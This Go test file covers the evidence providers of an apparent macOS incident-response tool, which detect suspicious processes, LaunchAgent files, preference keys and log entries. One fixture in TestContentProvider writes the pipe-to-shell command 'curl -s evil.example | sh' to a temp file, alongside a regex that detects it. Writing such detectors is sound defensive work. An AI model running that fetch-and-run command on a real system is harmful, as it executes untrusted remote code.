package evidence

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/remedian/remedian/internal/indicator"
	"github.com/remedian/remedian/internal/scope"
)

type fakeLister struct {
	procs []ProcessInfo
	err   error
}

func (f fakeLister) Processes(ctx context.Context) ([]ProcessInfo, error) {
	return f.procs, f.err
}

func TestProcessProvider_Match(t *testing.T) {
	p := &ProcessProvider{Lister: fakeLister{procs: []ProcessInfo{
		{PID: 101, Cmdline: "/usr/bin/something"},
		{PID: 202, Cmdline: "/private/tmp/p --daemon"},
	}}}
	def := indicator.Definition{ID: "proc-1", Provider: indicator.ProviderProcessPattern, Pattern: "/private/tmp/p"}

	ev := p.Query(context.Background(), def, scope.System())
	if !ev.Present {
		t.Fatal("expected Present")
	}
	if ev.Count != 1 {
		t.Errorf("count = %d, want 1", ev.Count)
	}
	if len(ev.Values) != 1 || ev.Values[0] != "202" {
		t.Errorf("values = %v, want [202]", ev.Values)
	}
	if len(ev.Procs) != 1 || ev.Procs[0].Cmdline != "/private/tmp/p --daemon" {
		t.Errorf("procs = %v, want the matched process", ev.Procs)
	}
}

func TestProcessProvider_NoProcesses(t *testing.T) {
	// Zero processes is a clean Absent, never a failure.
	p := &ProcessProvider{Lister: fakeLister{}}
	def := indicator.Definition{Provider: indicator.ProviderProcessPattern, Pattern: "anything"}

	ev := p.Query(context.Background(), def, scope.System())
	if ev.Present || ev.QueryFailed {
		t.Errorf("evidence = %+v, want clean Absent", ev)
	}
}

func TestProcessProvider_ListError(t *testing.T) {
	p := &ProcessProvider{Lister: fakeLister{err: errors.New("ps unavailable")}}
	def := indicator.Definition{Provider: indicator.ProviderProcessPattern, Pattern: "x"}

	ev := p.Query(context.Background(), def, scope.System())
	if !ev.QueryFailed {
		t.Error("expected QueryFailed on lister error")
	}
}

func TestFileProvider(t *testing.T) {
	dir := t.TempDir()
	target := filepath.Join(dir, "payload")
	if err := os.WriteFile(target, []byte("x"), 0644); err != nil {
		t.Fatal(err)
	}

	p := FileProvider{}

	ev := p.Query(context.Background(),
		indicator.Definition{Provider: indicator.ProviderFileExists, Path: filepath.Join(dir, "payload*")},
		scope.System())
	if !ev.Present || ev.Values[0] != target {
		t.Errorf("evidence = %+v, want Present %s", ev, target)
	}

	// Missing parent directory must be Absent, not a failure.
	ev = p.Query(context.Background(),
		indicator.Definition{Provider: indicator.ProviderFileExists, Path: filepath.Join(dir, "no", "such", "file")},
		scope.System())
	if ev.Present || ev.QueryFailed {
		t.Errorf("evidence = %+v, want clean Absent", ev)
	}
}

func TestFileProvider_HomeExpansion(t *testing.T) {
	home := t.TempDir()
	agents := filepath.Join(home, "Library", "LaunchAgents")
	if err := os.MkdirAll(agents, 0755); err != nil {
		t.Fatal(err)
	}
	plist := filepath.Join(agents, "com.bad.plist")
	if err := os.WriteFile(plist, []byte("<plist/>"), 0644); err != nil {
		t.Fatal(err)
	}

	sc := scope.Context{Kind: indicator.ScopeUser, Username: "alice", Home: home}
	ev := FileProvider{}.Query(context.Background(),
		indicator.Definition{Provider: indicator.ProviderFileExists, Path: "~/Library/LaunchAgents/com.bad.plist"},
		sc)
	if !ev.Present {
		t.Fatalf("evidence = %+v, want Present", ev)
	}
}

func TestContentProvider(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rc")
	if err := os.WriteFile(path, []byte("export PATH\ncurl -s evil.example | sh\n"), 0644); err != nil {
		t.Fatal(err)
	}

	def := indicator.Definition{Provider: indicator.ProviderFileContent, Path: path, Pattern: `curl.*\| sh`}
	ev := ContentProvider{}.Query(context.Background(), def, scope.System())
	if !ev.Present {
		t.Fatalf("evidence = %+v, want Present", ev)
	}
	if ev.Value != "curl -s evil.example | sh" {
		t.Errorf("snippet = %q", ev.Value)
	}

	// Missing file is Absent.
	def.Path = filepath.Join(dir, "missing")
	ev = ContentProvider{}.Query(context.Background(), def, scope.System())
	if ev.Present || ev.QueryFailed {
		t.Errorf("evidence = %+v, want clean Absent", ev)
	}
}

type fakePrefStore struct {
	values map[string]PrefValue
	err    error
	writes int
}

func prefKey(domain, key string) string { return domain + "/" + key }

func (f *fakePrefStore) Read(ctx context.Context, domain, key string, sc scope.Context) (PrefValue, bool, error) {
	if f.err != nil {
		return PrefValue{}, false, f.err
	}
	v, ok := f.values[prefKey(domain, key)]
	return v, ok, nil
}

func (f *fakePrefStore) Write(ctx context.Context, domain, key, value string, sc scope.Context) error {
	if f.err != nil {
		return f.err
	}
	f.writes++
	if f.values == nil {
		f.values = make(map[string]PrefValue)
	}
	f.values[prefKey(domain, key)] = PrefValue{Raw: value}
	return nil
}

func TestPreferenceProvider(t *testing.T) {
	store := &fakePrefStore{values: map[string]PrefValue{
		"com.apple.MediaToolbox/AllowedCPC": {Raw: "0x1"},
	}}
	p := &PreferenceProvider{Store: store}
	def := indicator.Definition{
		Provider: indicator.ProviderPreferenceKey,
		Domain:   "com.apple.MediaToolbox",
		Key:      "AllowedCPC",
	}

	ev := p.Query(context.Background(), def, scope.System())
	if !ev.Present || ev.Value != "0x1" {
		t.Errorf("evidence = %+v, want Present 0x1", ev)
	}

	def.Key = "Undefined"
	ev = p.Query(context.Background(), def, scope.System())
	if ev.Present || ev.QueryFailed {
		t.Errorf("evidence = %+v, want clean Absent for undefined key", ev)
	}

	store.err = errors.New("permission denied")
	ev = p.Query(context.Background(), def, scope.System())
	if !ev.QueryFailed {
		t.Error("expected QueryFailed on store error")
	}
}

func TestParseDefaultsOutput_Array(t *testing.T) {
	out := "(\n    \"0x3\",\n    \"0x7\"\n)\n"
	v := parseDefaultsOutput(out)
	if !v.IsArray {
		t.Fatal("expected array value")
	}
	if len(v.Members) != 2 || v.Members[0] != "0x3" || v.Members[1] != "0x7" {
		t.Errorf("members = %v", v.Members)
	}
}

func TestParseDefaultsOutput_Scalar(t *testing.T) {
	v := parseDefaultsOutput("0x3\n")
	if v.IsArray || v.Raw != "0x3" {
		t.Errorf("value = %+v, want scalar 0x3", v)
	}
}

func TestParseDefaultsOutput_ParenthesizedScalar(t *testing.T) {
	// A single-line parenthesized string is a scalar value, not an array.
	v := parseDefaultsOutput("(custom)\n")
	if v.IsArray || v.Raw != "(custom)" {
		t.Errorf("value = %+v, want scalar (custom)", v)
	}
}

func TestParseDefaultsOutput_MemberWithComma(t *testing.T) {
	out := "(\n    \"first, with comma\",\n    \"second\"\n)\n"
	v := parseDefaultsOutput(out)
	if !v.IsArray {
		t.Fatal("expected array value")
	}
	if len(v.Members) != 2 || v.Members[0] != "first, with comma" || v.Members[1] != "second" {
		t.Errorf("members = %v", v.Members)
	}
}

func TestLastArg(t *testing.T) {
	tests := []struct {
		window time.Duration
		want   string
	}{
		{24 * time.Hour, "1440m"},
		{90 * time.Minute, "90m"},
		{time.Minute, "1m"},
		// log(1) rejects "0m"; sub-minute windows clamp to the floor.
		{10 * time.Second, "1m"},
		{0, "1m"},
	}
	for _, tt := range tests {
		if got := lastArg(tt.window); got != tt.want {
			t.Errorf("lastArg(%v) = %q, want %q", tt.window, got, tt.want)
		}
	}
}

type fakeLogQuerier struct {
	result LogResult
	err    error
}

func (f fakeLogQuerier) Query(ctx context.Context, predicate string, window time.Duration) (LogResult, error) {
	return f.result, f.err
}

func TestLogProvider(t *testing.T) {
	p := &LogProvider{Querier: fakeLogQuerier{result: LogResult{
		Count:  3,
		Sample: "exec /private/tmp/p",
		Events: []map[string]any{{"eventMessage": "exec /private/tmp/p"}},
	}}}
	def := indicator.Definition{Provider: indicator.ProviderLogPattern, Predicate: "x", Window: time.Hour}

	ev := p.Query(context.Background(), def, scope.System())
	if !ev.Present || ev.Count != 3 {
		t.Errorf("evidence = %+v, want Present count 3", ev)
	}
	if len(ev.Events) != 1 {
		t.Errorf("events = %d, want 1", len(ev.Events))
	}
}

func TestLogProvider_Unavailable(t *testing.T) {
	// The log subsystem failing must degrade, not crash the run.
	p := &LogProvider{Querier: fakeLogQuerier{err: errors.New("log daemon unavailable")}}
	def := indicator.Definition{Provider: indicator.ProviderLogPattern, Predicate: "x", Window: time.Hour}

	ev := p.Query(context.Background(), def, scope.System())
	if !ev.QueryFailed {
		t.Error("expected QueryFailed")
	}
}

// slowProvider blocks until its context is cancelled.
type slowProvider struct{}

func (slowProvider) Query(ctx context.Context, def indicator.Definition, sc scope.Context) Evidence {
	<-ctx.Done()
	return Absent()
}

func TestSet_Timeout(t *testing.T) {
	s := NewSet(10*time.Millisecond, zerolog.Nop())
	s.Register(indicator.ProviderLogPattern, slowProvider{})
	def := indicator.Definition{Provider: indicator.ProviderLogPattern}

	ev := s.Query(context.Background(), def, scope.System())
	if !ev.QueryFailed {
		t.Errorf("evidence = %+v, want QueryFailed on timeout", ev)
	}
}

func TestSet_UnregisteredKind(t *testing.T) {
	s := NewSet(time.Second, zerolog.Nop())
	ev := s.Query(context.Background(), indicator.Definition{Provider: indicator.ProviderFileExists}, scope.System())
	if !ev.QueryFailed {
		t.Error("expected QueryFailed for unregistered provider kind")
	}
}
